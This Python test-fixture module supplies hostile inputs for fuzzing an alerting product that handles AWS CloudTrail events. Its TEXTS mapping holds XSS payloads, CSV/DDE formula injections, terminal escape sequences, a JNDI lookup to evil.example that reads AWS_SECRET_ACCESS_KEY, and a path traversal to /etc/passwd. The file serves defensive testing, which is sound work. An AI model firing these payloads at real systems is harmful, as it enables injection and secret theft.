"""What an attacker may write: texts that act where they are shown, and values that break readers.

Each text is named after the reader it attacks. Nothing here is random: Hypothesis picks from it.
"""

import gzip
import json
from collections.abc import Iterator, Mapping
from functools import cache
from pathlib import Path
from typing import Any

from vigil._completion import completed_record
from vigil.rulefiles import built_in

REPOSITORY = Path(__file__).parents[2]
EVENTS = REPOSITORY / "tests" / "events"
#: A larger collection that may lie beside the repository.
CORPUS = REPOSITORY.parent / "shared" / "cloudtrail"

#: Stands at both ends of what a test follows through the product.
MARK = "zq7mark"

TEXTS: Mapping[str, str] = {
    "slack channel mention": "<!channel> <!here> <!everyone|all>",
    "slack user and group mention": "<@U0123ABCD> <#C0123ABCD|x> <!subteam^S01>",
    "slack link": "<https://evil.example/|https://console.aws.amazon.com>",
    "slack link without a scheme": "<http://[::1|x> <javascript:alert(1)|y>",
    "slack link with a quote": '<https://a.example/"onmouseover="alert(1)"x=\'y|z>',
    "slack code with entities": "`&lt;img src=x&gt;` ```&lt;script&gt;1&lt;/script&gt;```",
    "slack formatting": "*b* _i_ ~s~ `c` ```p``` > q\n> q2\n\n• x",
    "slack entities": "&lt;!channel&gt; &amp;lt;@U1&amp;gt; &#60;b&#62;",
    "html script": "<script>alert(1)</script><img src=x onerror=alert(1)>",
    "html attribute": '" onmouseover="x" \'><svg/onload=x> `--><!--',
    "html style": "</style></title></textarea><style>*{display:none}</style>",
    "html comment": "<!-- --!><![CDATA[ ]]><?php ?><!DOCTYPE x>",
    "csv formula": '=HYPERLINK("http://evil.example","x")',
    "csv dde": "=cmd|' /C calc'!A0",
    "csv plus": "+1+1",
    "csv minus": "-1+1|x",
    "csv at": "@SUM(1+1)*cmd|x",
    "csv tab": "\t=1+1",
    "csv carriage return": "\r=1+1",
    "csv fullwidth": "\uff1d1+1",
    "csv quotes": '","\n"=1"\r\n;\'',
    "terminal colour": "\x1b[31mred\x1b[0m \x1b[2J\x1b[H",
    "terminal title and link": "\x1b]0;x\x07 \x1b]8;;http://evil.example\x1b\\x\x1b]8;;\x1b\\",
    "terminal reset and answer": "\x1bc \x1b[c \x1b[6n \x05 \x9b31m \x9d0;x\x9c \x90q\x9c",
    "terminal backspace": "alice\b\b\b\b\bmallory\x7f\x0e\x0f\v\f",
    "rich markup": "[red]x[/red] [link=http://evil.example]y[/link] [/] [[ \\[b]",
    "bidi override": "\u202egnp.exe\u202c \u2066a\u2067b\u2068c\u2069 \u200e\u200f\u061c",
    "zero width": "ad\u200bmin\u200c\u200d\u2060\ufeff\u00ad\u180e",
    "line separators": "one\u2028two\u2029three\u0085four\nfive\rsix",
    "nul": "a\x00b",
    "lone surrogates": "\ud800 \udfff \udc00x",
    "tag characters": "\U000e0041\U000e0042\U000e007f",
    "noncharacters": "\ufffe\uffff\ufdd0\U0001fffe \ufff9\ufffa\ufffb",
    "combining flood": "Z" + "\u0301\u0302\u0489\u20dd" * 200,
    "right to left": "\u05e9\u05dc\u05d5\u05dd \u0645\u0631\u062d\u0628\u0627",
    "emoji sequence": "\U0001f468\u200d\U0001f469\u200d\U0001f467\ufe0f \U0001f1e9\U0001f1ea",
    "astral flood": "\U0001f4a3" * 2_000,
    "json in json": '{"a": "\\"}],\\u0000"}',
    "python format": "{actual.__class__.__mro__} {0} {id!r:>99999999} {{}}",
    "percent format": "%s %n %(x)s %99999999d",
    "lookup": "${jndi:ldap://evil.example/a} ${env:AWS_SECRET_ACCESS_KEY} #{7*7} {{7*7}}",
    "path": "../../../../etc/passwd\x00.json",
    "arn with newlines": "arn:aws:iam::111122223333:role/x\nINFO forged line\r\n",
    "arn of nothing": "arn:::::::::",
    "store separators": "a#b|c#look#finding#x",
    "pointer": "/~0~1/~2/-/00/*",
    "masked": "HIDDEN_DUE_TO_SECURITY_REASONS",
    "number as text": "NaN",
    "long": "x" * 30_000,
    "empty": "",
}

#: A body is refused above a megabyte, so one such text alone is the limit.
HUGE_TEXT = "A" * (1024 * 1024)


def nested(depth: int, inner: Any = "x") -> Any:
    """Return a value below that many lists and objects."""
    for level in range(depth):
        inner = [inner] if level % 2 else {"a": inner}
    return inner


#: Values that are no texts. Depths lie on both sides of what parsers and our own walks can take.
VALUES: Mapping[str, Any] = {
    "null": None,
    "true": True,
    "zero": 0,
    "minus": -1,
    "big integer": 2**63,
    "huge integer": int("9" * 600),
    "float": 1e308,
    "tiny": -0.0,
    "empty list": [],
    "empty object": {},
    "list": ["a", None, 1, {"a": []}],
    "deep 40": nested(40),
    "deep 300": nested(300),
    "deep 900": nested(900),
    "long list": list(range(10_000)),
    "many keys": {f"k\u2028{number}": number for number in range(2_000)},
    "hostile keys": dict.fromkeys(TEXTS.values(), "x"),
    "folding keys": {"Items": [1], "items": {"İ": 1}, "ITEMS": [], "ıtems": "\ud800"},
}

#: Broken on the wire; ``%s`` is a whole envelope.
BODIES: Mapping[str, bytes] = {
    "empty": b"",
    "blank": b" \n",
    "null": b"null",
    "array": b"[%s]",
    "text": b'"x"',
    "byte order mark": b"\xef\xbb\xbf%s",
    "utf-16": "{}".encode("utf-16"),
    "not utf-8": b'{"a": "\xff\xfe\xed\xa0\x80"}',
    "nan": b'{"a": NaN, "b": -Infinity}',
    "huge exponent": b'{"a": 1e99999}',
    "five thousand digits": b'{"a": ' + b"9" * 5_000 + b"}",
    "deeper than any stack": b"[" * 200_000,
    "half": b'{"detail": {"eventName": "x"',
    "two documents": b"%s%s",
    "comment": b"/* x */%s",
    "a duplicated key": b'{"detail-type":"x","detail-type":1}',
    "our own mark": b'{"vigil":"look","request":{}}',
    "our own mark, unknown": b'{"vigil":"none"}',
    "our own mark, broken": b'{"vigil"',
}


def committed_records() -> Iterator[Mapping[str, Any]]:
    """Yield the records that the repository brings, and one for every change rule's example."""
    for path in sorted(EVENTS.glob("*.json")):
        event = json.loads(path.read_text())
        yield event.get("detail", event)
    for file in built_in().files:
        for example in file.examples:
            if "event" in example:
                yield completed_record(example["event"], file.rule.matches)


def neighbouring_records() -> Iterator[Mapping[str, Any]]:
    """Yield what lies beside the repository, if anything does."""
    for path in sorted(CORPUS.glob("jsonl/*.gz")):
        yield from map(json.loads, gzip.decompress(path.read_bytes()).splitlines())
    for path in sorted(CORPUS.glob("eventbridge/*.json")):
        event = json.loads(path.read_text())
        yield event.get("detail", event)


@cache
def records() -> tuple[Mapping[str, Any], ...]:
    """Return one record of every (source, name, error) there is, and all that rules show."""
    unlike: dict[Any, Mapping[str, Any]] = {}
    for record in neighbouring_records():
        key = (record.get("eventSource"), record.get("eventName"), record.get("errorCode"))
        unlike.setdefault(str(key), record)
    return (*committed_records(), *unlike.values())
